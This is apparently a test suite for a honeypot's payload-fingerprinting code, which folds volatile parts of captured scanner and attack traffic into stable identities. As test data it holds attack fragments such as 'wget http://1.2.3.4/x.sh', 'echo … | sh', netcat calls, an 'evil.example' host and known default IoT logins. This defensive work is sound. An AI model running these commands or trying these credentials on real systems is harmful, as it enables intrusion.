import { describe, expect, test } from "bun:test";
import { payloadOf } from "../../server/event/payload.ts";
import { foldedPayload, maxIdentityBytes, payloadIdentity } from "../../server/event/payload-identity.ts";
import { capturedRequests } from "../support/fixtures.ts";
import { createRandom } from "../support/random.ts";

const captured = capturedRequests.flatMap(({ body }): Uint8Array[] => {
  const events: unknown[] = JSON.parse(body);
  return events.map((event) => payloadOf(event)).filter((payload) => payload !== undefined);
});

function bytesOf(text: string): Uint8Array {
  return new Uint8Array(Buffer.from(text, "latin1"));
}

function textOf(payload: Uint8Array): string {
  return Buffer.from(payload).toString("latin1");
}

function capturedWith(text: string): string {
  const found = captured.map(textOf).find((payload) => payload.includes(text));
  if (found === undefined) throw new Error(`no captured payload has ${text}`);
  return found;
}

function identityOf(payload: string | Uint8Array): string {
  return payloadIdentity(typeof payload === "string" ? bytesOf(payload) : payload);
}

const env = capturedWith("GET /.env");
const login = capturedWith("formLogin");
const luci = capturedWith("luci");
const ssh = capturedWith("SSH-2.0");
const desktop = capturedWith("mstshash");
const redis = capturedWith("COMMAND");
const overflow = capturedWith("AAAAAAAA");
const health = capturedWith("actuator");
const sip =
  "OPTIONS sip:100@203.0.113.7 SIP/2.0\r\nVia: SIP/2.0/UDP 10.0.0.1:5060;branch=z9hG4bKab;rport\r\n" +
  'From: "x"<sip:100@1.1.1.1>;tag=6434\r\nCall-ID: 5077@10.0.0.1\r\nCSeq: 1 OPTIONS\r\n\r\n';
const uuid = "550e8400-e29b-41d4-a716-446655440000";

/** What is folded, a payload, one that is the same, and one that differs. */
const rules: readonly (readonly [string, string, string, string])[] = [
  ["the value of Host", env, env.replace("127.0.0.2", "www.example.com:8080"), env.replace("Host", "Hosts")],
  ["numbers", env, env.replace("/0.x", "/17.x"), env.replace("zgrab/0.x", "curl/0.x")],
  ["a number within a word", "cat /tmp/x86", "cat /tmp/x6", "cat /tmp/x"],
  ["IPv4 addresses with ports", "nc 1.2.3.4:80 x", "nc 9.10.11.12:4444 x", "nc 1.2.3.4:80 y"],
  ["an IPv4 address without a port", "nc 1.2.3.4 x", "nc 9.10.11.12:4444 x", "nc 1.2.3.4: x"],
  [
    "hosts of escaped URLs",
    luci,
    luci.replace("127.0.0.2%2Fx", "evil.example%2Fx"),
    luci.replace("wget", "curl"),
  ],
  [
    "hosts of URLs",
    "wget http://1.2.3.4/x.sh;",
    "wget http://a.example:81/x.sh;",
    "wget http://1.2.3.4/y.sh;",
  ],
  ["IPv6 addresses in brackets", "x [2001:db8::1] y", "x [fe80::2:3] y", "x [2001:db8] y"],
  [
    "the length of a body",
    login,
    login.replace("Length: 24", "Length: 1024"),
    login.replace("Length", "Range"),
  ],
  [
    "user names and passwords of forms",
    login,
    login.replace("=admin&psd=admin", "=root&psd=a+b"),
    login.replace("psd=", "x="),
  ],
  [
    "values in JSON",
    '{"user":"a","password": "b"}',
    '{"user":"cc","password": "dd"}',
    '{"user":"a","passwort": "b"}',
  ],
  ["values of cookies", login, login.replace("a=b", "a=zz"), login.replace("a=b", "c=b")],
  [
    "the value of Authorization",
    "GET / HTTP/1.1\r\nAuthorization: Basic YTpi\r\n\r\n",
    "GET / HTTP/1.1\r\nAuthorization: Basic YWJjOmRlZg==\r\n\r\n",
    "GET / HTTP/1.1\r\nAuthorization: Digest YTpi\r\n\r\n",
  ],
  [
    "a date",
    "GET / HTTP/1.1\r\nDate: Mon, 23 Nov 2026 01:02:03 GMT\r\n\r\n",
    "GET / HTTP/1.1\r\nDate: Tue, 1 Dec 2026 01:02:03 GMT\r\n\r\n",
    "GET / HTTP/1.1\r\nDate: x\r\nA: b\r\n\r\n",
  ],
  ["random words", "GET /aB3xK9qLm2 HTTP/1.1", "GET /Zz0pQ8wE1r7T HTTP/1.1", "GET /index HTTP/1.1"],
  ["hexadecimal words", "GET /4f2a9c1e HTTP/1.1", "GET /00ff00ff00ff00ff00 HTTP/1.1", "GET /4f2a9c HTTP/1.1"],
  ["long words", `x ${"wxyz".repeat(8)} y`, `x ${"efgHi".repeat(9)} y`, `x ${"wxyz".repeat(7)} y`],
  [
    "base64 with signs",
    "echo aGVsbG8/d29ybGQxMjM0NTY3ODk+ | sh",
    "echo Zm9vYmFyL2Jhc+U2NDEyMzQ1Ng== | sh",
    "echo hello/world/this/is/no/base | sh",
  ],
  ["UUIDs", `id ${uuid};`, `id 12345678-1234-1234-1234-123456789012;`, `id ${uuid.slice(0, 35)}-;`],
  ["repetitions", overflow, "A".repeat(9), "B".repeat(9)],
  ["repetitions of signs", "../../\0\0\0\0\0\0x", "../../\0\0\0\0\0\0\0\0x", "../../\0\0\0x"],
  [
    "boundaries",
    "boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW\r\n",
    "boundary=----WebKitFormBoundaryk9LpQ2rS5tU8vW1x\r\n",
    "boundary=----form\r\n",
  ],
  ["lines of FTP", "USER bob\r\nPASS x\r\n", "USER anonymous\r\nPASS a@b c\r\n", "USER bob\r\nACCT x\r\n"],
  ["login lines", "root\r\nvizxv\r\n", "admin\n1234\n", "root\r\nvizxv\r\nenable\r\n"],
  [
    "login lines after options",
    "\xff\xfb\x1froot\r\nvizxv\r\n",
    "\xff\xfb\x1fpi\r\nraspberry\r\n",
    "\xff\xfb\x20root\r\nvizxv\r\n",
  ],
  ["AUTH of Redis", "*2\r\n$4\r\nAUTH\r\n$6\r\nfoobar\r\n", "*2\r\n$4\r\nAUTH\r\n$3\r\nxyz\r\n", redis],
  [
    "AUTH LOGIN",
    "AUTH LOGIN\r\ncm9vdA==\r\ncHc=\r\n",
    "AUTH LOGIN\r\nYWRtaW4=\r\nc2VjcmV0\r\n",
    "AUTH LOGIN\r\nQUIT now\r\ncHc=\r\n",
  ],
  ["LOGIN of IMAP", "a1 LOGIN bob pw\r\n", 'a2 LOGIN "eve" "p w"\r\n', "a1 LOGOUT bob pw\r\n"],
  [
    "the cookie of Remote Desktop",
    desktop,
    desktop.replace("Administr", "hello").replace("/*", "+&"),
    desktop.replace("mstshash", "msts"),
  ],
  [
    "ids of SIP",
    sip,
    sip.replace("z9hG4bKab", "z9hG4bKqq").replace("tag=6434", "tag=x").replace("5077@10.0.0.1", "abc"),
    sip.replace("OPTIONS sip", "INVITE sip"),
  ],
  [
    "the cookie and the length of SSH",
    ssh,
    ssh.replace(/(?<=\r\n)[\s\S]{22}/, `\0\0\x07\x14\x05\x14${"r".repeat(16)}`),
    ssh.replace("aes256", "aes192"),
  ],
  [
    "the id of DNS",
    "\0\x11\x12\x34\x01\0\0\x01\0\0\0\0\0\0\0\0\x10\0\x03",
    "\0\x11\xab\xcd\x01\0\0\x01\0\0\0\0\0\0\0\0\x10\0\x03",
    "\0\x11\x12\x34\x01\0\0\x01\0\0\0\0\0\0\0\0\x06\0\x03",
  ],
];

describe("payloads are the same if they differ only in", () => {
  for (const [what, payload, same, different] of rules)
    test(what, () => {
      expect(textOf(foldedPayload(bytesOf(same)))).toBe(textOf(foldedPayload(bytesOf(payload))));
      expect(same).not.toBe(payload);
      expect(identityOf(same)).toBe(identityOf(payload));
      expect(identityOf(different)).not.toBe(identityOf(payload));
    });
});

test("usual words are not folded, though they have digits, capital letters or only hexadecimal digits", () => {
  const words = [
    "Windows10Update",
    "Windows10Upgrade",
    "deadbeef",
    "facefeed",
    "getElementById",
    "getElementByTag",
  ];
  expect(words.map((word) => textOf(foldedPayload(bytesOf(`GET /${word}`))).slice(1))).toEqual(
    words.map((word) => `GET /${word.replace("10", "0")}`),
  );
});

test("the captured payloads differ from each other", () => {
  expect(captured.length).toBe(12);
  expect(new Set(captured.map(payloadIdentity)).size).toBe(12);
  expect(identityOf(health)).not.toBe(identityOf(env));
});

test("identities are stored, so they never change", () => {
  expect(identityOf("hello\r\n")).toBe("4bf2b8a0385f01d7");
  expect(identityOf(new Uint8Array())).toBe("9a2b98d604f21c88");
});

test("100,000 payloads have 100,000 identities, in which each bit is set in about half of them", () => {
  const letters = "bcdfghjklmnpqrstvwxz";
  const texts = Array.from(
    { length: 100_000 },
    (_, i) => `k ${[...String(i)].map((digit) => letters[Number(digit)]).join("z")}`,
  );
  const identities = new Set(texts.map(identityOf));
  expect(identities.size).toBe(100_000);
  for (let bit = 0n; bit < 64n; bit += 7n) {
    const set = [...identities].filter((identity) => (BigInt(`0x${identity}`) >> bit) & 1n).length;
    expect(Math.abs(set - 50_000)).toBeLessThan(1_000);
  }
});

describe("of a TLS ClientHello", () => {
  const hello = (random: number, session: number, ciphers: number[], extensions: [number, number][]) => {
    const list = ciphers.flatMap((cipher) => [cipher >> 8, cipher & 255]);
    const rest = extensions.flatMap(([type, size]) => [
      type >> 8,
      type & 255,
      0,
      size,
      ...Array(size).fill(random),
    ]);
    const body = [
      3,
      3,
      ...Array(32).fill(random),
      session,
      ...Array(session).fill(random),
      0,
      list.length,
      ...list,
      1,
      0,
      0,
      rest.length,
      ...rest,
    ];
    return Uint8Array.from([0x16, 3, 1, 0, body.length + 4, 1, 0, 0, body.length, ...body]);
  };
  const usual = identityOf(
    hello(
      7,
      32,
      [0x1301, 0xc02f],
      [
        [0, 9],
        [10, 4],
        [51, 38],
      ],
    ),
  );

  test("random bytes, session, GREASE, padding, values and the order of extensions are left out", () => {
    expect(
      identityOf(
        hello(
          99,
          0,
          [0x2a2a, 0x1301, 0xc02f],
          [
            [51, 40],
            [0xdada, 0],
            [10, 4],
            [21, 9],
            [0, 5],
            [41, 7],
          ],
        ),
      ),
    ).toBe(usual);
  });

  test("cipher suites, their order, and the types of extensions are kept", () => {
    expect(
      identityOf(
        hello(
          7,
          32,
          [0xc02f, 0x1301],
          [
            [0, 9],
            [10, 4],
            [51, 38],
          ],
        ),
      ),
    ).not.toBe(usual);
    expect(
      identityOf(
        hello(
          7,
          32,
          [0x1301, 0xc02b],
          [
            [0, 9],
            [10, 4],
            [51, 38],
          ],
        ),
      ),
    ).not.toBe(usual);
    expect(
      identityOf(
        hello(
          7,
          32,
          [0x1301, 0xc02f],
          [
            [0, 9],
            [10, 4],
          ],
        ),
      ),
    ).not.toBe(usual);
    expect(
      identityOf(
        hello(
          7,
          32,
          [0x1301, 0xc02f],
          [
            [0, 9],
            [11, 4],
            [51, 38],
          ],
        ),
      ),
    ).not.toBe(usual);
  });
});

describe("of SMB", () => {
  const smb2 = (id: number, guid: number, dialect: number) => {
    const bytes = new Uint8Array(4 + 64 + 36 + 4 + 8);
    bytes.set([0, 0, 0, id, 0xfe, 0x53, 0x4d, 0x42, 64, 0]);
    bytes.fill(id, 4 + 24, 4 + 64);
    bytes.set([36, 0, 2, 0], 68);
    bytes.fill(guid, 68 + 12, 68 + 28);
    bytes.set([2, 2, dialect, 2], 68 + 36);
    bytes.fill(guid, 68 + 40);
    return bytes;
  };
  const smb1 = (id: number, command: number) => {
    const bytes = new Uint8Array(4 + 32 + 4);
    bytes.set([0, 0, 0, 36, 0xff, 0x53, 0x4d, 0x42, command]);
    bytes.fill(id, 4 + 12, 4 + 32);
    bytes.set(bytesOf("\0\x02NT"), 36);
    return bytes;
  };

  test("ids, signatures and GUIDs are left out", () => {
    expect(identityOf(smb2(1, 2, 0x10))).toBe(identityOf(smb2(77, 88, 0x10)));
    expect(identityOf(smb1(1, 0x72))).toBe(identityOf(smb1(9, 0x72)));
  });

  test("commands and dialects are kept", () => {
    expect(identityOf(smb2(1, 2, 0x10))).not.toBe(identityOf(smb2(1, 2, 0x11)));
    expect(identityOf(smb1(1, 0x72))).not.toBe(identityOf(smb1(1, 0x73)));
  });
});

test("random bytes are folded, and the bytes around them are kept", () => {
  const random = createRandom(5);
  const withRandom = (size: number, head = 1) =>
    Uint8Array.from([head, ...Array(31).fill(0), ...Array.from({ length: size }, () => random.below(256))]);
  expect(textOf(foldedPayload(withRandom(200)))).toBe("\x02\x01\0\0\0\0*");
  expect(identityOf(withRandom(200))).toBe(identityOf(withRandom(97)));
  expect(identityOf(withRandom(200))).not.toBe(identityOf(withRandom(200, 2)));
});

test(`bytes after the first ${maxIdentityBytes} do not count`, () => {
  const text = "a b ".repeat(maxIdentityBytes / 4);
  expect(identityOf(`${text}x`)).toBe(identityOf(`${text}yy`));
  expect(identityOf(`${text.slice(0, -1)}x`)).not.toBe(identityOf(text));
});

test("any bytes have an identity of 16 digits, which is the same in memory at another place", () => {
  const random = createRandom(11);
  const pieces = [
    "http://",
    "%3A%2F%2F",
    "\nHost: ",
    "\nAUTH\r\n$4\r\n",
    "USER ",
    '":"',
    "[::1]",
    "AB/+c9",
    "\x16\x03\x01\0\x05\x01",
    "SSH-2\r\n",
  ];
  for (let round = 0; round < 3_000; round++) {
    const noise = () =>
      String.fromCharCode(...Array.from({ length: random.below(40) }, () => random.below(256)));
    const first = round % 2 === 0 ? random.pick(captured) : bytesOf(random.pick(pieces));
    const payload = bytesOf(
      textOf(first).slice(0, random.below(first.length + 1)) + noise() + random.pick(pieces) + noise(),
    );
    const moved = new Uint8Array(payload.length + 9).subarray(5, 5 + payload.length);
    moved.set(payload);
    expect(payloadIdentity(payload)).toMatch(/^[\da-f]{16}$/);
    expect(payloadIdentity(moved)).toBe(payloadIdentity(payload));
  }
  expect(payloadIdentity(new Uint8Array())).toMatch(/^[\da-f]{16}$/);
});

test("each byte of hostile payloads of 128 KiB is read a bounded number of times", () => {
  const units = [
    "a/",
    "a+",
    "A1b2",
    "://",
    "%3A%2F%2F",
    "[::",
    "\nhost:",
    "\nAUTH\r\n$",
    "user=",
    '"',
    "1.",
    "\xff\xfa",
    "\x16\x03\x01\0\0\x01",
    "\0",
    "12345678-",
    "a\n",
  ];
  for (const unit of units) {
    let reads = 0;
    const bytes = bytesOf(unit.repeat(Math.ceil(131_072 / unit.length)));
    const counted = new Proxy(bytes, {
      get(target, name) {
        if (typeof name === "string" && /^\d+$/.test(name)) reads++;
        const value: unknown = Reflect.get(target, name, target);
        return typeof value === "function" ? value.bind(target) : value;
      },
    });
    expect(payloadIdentity(counted)).toBe(payloadIdentity(bytes));
    expect(reads).toBeGreaterThan(0);
    expect(reads).toBeLessThan(maxIdentityBytes * 16);
  }
});
